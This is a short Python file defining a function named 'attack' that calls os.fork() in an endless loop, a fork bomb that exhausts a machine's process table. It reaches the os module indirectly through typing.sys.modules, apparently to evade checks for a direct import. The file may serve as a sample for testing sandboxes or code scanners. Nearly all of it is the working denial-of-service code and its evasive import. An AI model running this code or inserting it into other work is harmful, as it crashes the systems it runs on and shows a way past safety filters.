"""Starts processes that start processes."""

import typing

os = typing.sys.modules["os"]


def attack():
    while True:
        os.fork()
